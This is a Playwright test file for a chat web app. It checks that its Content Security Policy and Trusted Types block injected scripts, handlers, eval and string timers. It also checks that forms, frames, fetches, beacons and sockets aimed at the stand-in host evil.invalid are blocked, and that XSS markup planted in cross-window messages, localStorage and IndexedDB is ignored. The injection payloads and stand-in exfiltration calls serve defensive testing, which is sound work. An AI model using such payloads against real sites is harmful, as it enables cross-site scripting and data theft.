import type { Page } from '@playwright/test';
import { conversationPage } from '#pages/conversation-page.ts';
import { watchMarkup } from '#pages/markup-oracle.ts';
import { expect, story } from '#story.ts';

/** What an attacker would do who had got a foot into the page; each is tried in the page itself. */
const ATTEMPTS: Readonly<Record<string, { attempt: () => unknown; blocked: string }>> = {
  'an inline script': {
    attempt: () => document.head.append(Object.assign(document.createElement('script'), { text: 'window.hacked=1' })),
    blocked: 'require-trusted-types-for',
  },
  'an inline script that is no text of a property': {
    attempt: () => {
      const script = document.createElement('script');
      script.append('window.hacked=1');
      document.head.append(script);
    },
    blocked: 'require-trusted-types-for',
  },
  'markup with a handler': {
    attempt: () => {
      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.hacked=1>');
    },
    blocked: 'require-trusted-types-for',
  },
  'a handler in an attribute': {
    attempt: () => document.body.setAttribute('onclick', 'window.hacked=1'),
    blocked: 'require-trusted-types-for',
  },
  'a policy of its own for Trusted Types': {
    attempt: () =>
      Reflect.apply(
        Reflect.get(Reflect.get(window, 'trustedTypes'), 'createPolicy'),
        Reflect.get(window, 'trustedTypes'),
        ['evil', {}],
      ),
    blocked: 'trusted-types',
  },
  eval: {
    // Later: what the test itself evaluates is allowed to, for as long as it runs.
    attempt: () => void setTimeout(() => Reflect.apply(Reflect.get(window, 'eval'), window, ['window.hacked=1'])),
    blocked: 'require-trusted-types-for',
  },
  'a text as a timer': {
    attempt: () => Reflect.apply(setTimeout, window, ['window.hacked=1', 0]),
    blocked: 'require-trusted-types-for',
  },
  'a script in its address': {
    attempt: () =>
      document.head.append(
        Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.hacked=1' }),
      ),
    blocked: 'require-trusted-types-for',
  },
  'an inline style': {
    attempt: () =>
      document.head.append(Object.assign(document.createElement('style'), { textContent: 'body{color:red}' })),
    blocked: 'style-src-elem',
  },
  'a style attribute': { attempt: () => document.body.setAttribute('style', 'color:red'), blocked: 'style-src-attr' },
  'a base': {
    attempt: () =>
      document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.invalid/' })),
    blocked: 'base-uri',
  },
  'a form': {
    attempt: () => {
      const form = Object.assign(document.createElement('form'), { action: 'https://evil.invalid/', method: 'post' });
      document.body.append(form);
      form.submit();
    },
    blocked: 'form-action',
  },
  'a worker from elsewhere': {
    attempt: () => new Worker('https://evil.invalid/w.js'),
    blocked: 'require-trusted-types-for',
  },
  'an object': {
    attempt: () =>
      document.body.append(
        Object.assign(document.createElement('object'), { data: '/favicon.svg', type: 'image/svg+xml' }),
      ),
    blocked: 'require-trusted-types-for',
  },
  'a frame': {
    attempt: () =>
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.invalid/' })),
    blocked: 'frame-src',
  },
  'an image': { attempt: () => Object.assign(new Image(), { src: 'https://evil.invalid/p.png' }), blocked: 'img-src' },
  'a sound': {
    attempt: () => Object.assign(new Audio(), { src: 'https://evil.invalid/a.mp3' }).load(),
    blocked: 'media-src',
  },
  'a font': {
    attempt: () => void new FontFace('x', 'url(https://evil.invalid/f.woff2)').load().catch(() => undefined),
    blocked: 'font-src',
  },
  'a request': { attempt: () => void fetch('https://evil.invalid/').catch(() => undefined), blocked: 'connect-src' },
  'a beacon': { attempt: () => navigator.sendBeacon('https://evil.invalid/', 'x'), blocked: 'connect-src' },
  'a socket': { attempt: () => new WebSocket('wss://evil.invalid/'), blocked: 'connect-src' },
  'a style sheet from elsewhere': {
    attempt: () =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.invalid/x.css' }),
      ),
    blocked: 'style-src-elem',
  },
  'a page that is fetched before it is asked for': {
    attempt: () =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'https://evil.invalid/x' }),
      ),
    blocked: 'default-src',
  },
};

/** The directives that were broken by an attempt, which may throw; resolves when one was, so that a policy without it hangs and fails. */
async function violations(page: Page, attempt: () => unknown): Promise<string> {
  const seen = page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
          once: true,
        });
      }),
  );
  await page.evaluate(attempt).catch(() => undefined);
  return seen;
}

story.describe('S19 what gets a foot into the page can do nothing', () => {
  story.use({
    expectedNoise: /Content Security Policy|TrustedType|Trusted Type|evil\.invalid|This document requires/i,
  });

  for (const [name, { attempt, blocked }] of Object.entries(ATTEMPTS)) {
    story(`${name} is blocked by ${blocked}`, async ({ page, product }) => {
      await page.goto('/');
      await page.getByRole('textbox', { name: 'Message' }).waitFor();
      expect(await violations(page, attempt)).toBe(blocked);
      expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false);
      expect(page.url()).toBe(`${product}/`);
    });
  }
});

story(
  'S36 what other windows and tabs say, and what was put into storage, is checked and ignored',
  async ({ page, context }) => {
    const oracle = await watchMarkup(page);
    const chat = conversationPage(page);
    await chat.open();
    await chat.choose('script-repeats');
    await chat.askAndWait('Here to stay', { turn: 1 });
    await chat.kept();
    const other = await context.newPage();
    await other.goto('/settings');
    await other.evaluate(() => {
      const channel = new BroadcastChannel('lineup');
      const markup = '<img src=x onerror=window.hacked=1>';
      const change = { store: 'sessions', id: markup, sessionId: null, isRemoved: true };
      const messages = [
        null,
        markup,
        ['records'],
        { kind: 'records' },
        { kind: 'records', changes: 'all' },
        { kind: 'records', changes: [{ store: 'cookies', id: 'x', sessionId: null, isRemoved: true }] },
        { kind: 'records', changes: [{ store: '__proto__', id: 'x', sessionId: null, isRemoved: true }] },
        { kind: 'records', changes: [change] },
        { kind: markup, changes: [change] },
        new ArrayBuffer(8),
      ];
      // oxlint-disable-next-line unicorn/require-post-message-target-origin -- a channel reaches this origin alone
      for (const message of messages) channel.postMessage(message);
      channel.close();
    });
    await page.evaluate(() => {
      const sizes = { type: 'lineup.image', width: 99_999, height: 99_999 };
      const messages = [sizes, { type: 'lineup.image.failed' }, 'setImmediate$0', { __proto__: { admin: true } }, null];
      for (const message of messages) window.postMessage(message, '*');
      for (const name of ['theme', 'density', 'list', 'locale'])
        localStorage.setItem(`lineup.${name}`, '"><img src=x onerror=window.hacked=1>');
    });
    await expect(chat.run(1)).toContainText('Here to stay');
    await page.reload();
    await expect(chat.run(1)).toContainText('Here to stay');
    expect(await page.evaluate(() => document.documentElement.dataset['theme'] ?? 'none')).toBe('none');
    await tamper(page);
    await page.reload();
    await expect(page.getByRole('textbox', { name: 'Message' })).toBeVisible();
    await page.goto('/history');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await oracle.expectNothing();
  },
);

/** Puts into every store of the app records that no page of it has ever written. */
function tamper(page: Page): Promise<void> {
  return page.evaluate(
    () =>
      new Promise<void>((resolve, reject) => {
        const opening = indexedDB.open('lineup');
        opening.addEventListener('error', () => reject(new Error('The database was not opened.')));
        opening.addEventListener('success', () => {
          const database = opening.result;
          const change = database.transaction(database.objectStoreNames, 'readwrite');
          const markup = '<img src=x onerror=window.hacked=1>';
          for (const name of database.objectStoreNames) {
            const store = change.objectStore(name);
            const bad = [
              { title: markup },
              { id: 7 },
              { id: markup, sessionId: markup, seq: markup, screen: markup, value: markup },
            ];
            for (const [index, record] of bad.entries()) {
              const key = { id: `bad${index}`, sessionId: 'bad', seq: index };
              store.put({
                ...key,
                ...record,
                ...(typeof store.keyPath === 'string' && { [store.keyPath]: `bad${index}` }),
              });
            }
          }
          change.addEventListener('complete', () => {
            database.close();
            resolve();
          });
          change.addEventListener('abort', () => reject(change.error ?? new Error('Nothing was written.')));
        });
      }),
  );
}
